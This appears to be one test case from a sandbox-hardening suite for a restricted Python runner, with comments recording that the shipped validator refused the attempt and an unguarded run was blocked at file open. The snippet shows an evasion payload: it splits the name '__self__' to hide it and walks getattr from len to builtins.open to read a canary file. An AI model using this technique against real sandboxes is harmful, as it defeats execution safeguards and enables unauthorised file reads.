# Technique   getattr's names come with the arguments of the run
# Mechanism   what is not in the script cannot be validated
# As shipped  failed: AttributeError: the attribute '__self__' is refused: it begins with an underscore
# Unguarded   blocked: openat

path = args.get("path", ["__sel" + "f__", "open"])
step = len
for name in path:
    step = getattr(step, name)
return step(CANARY_FILE).read()
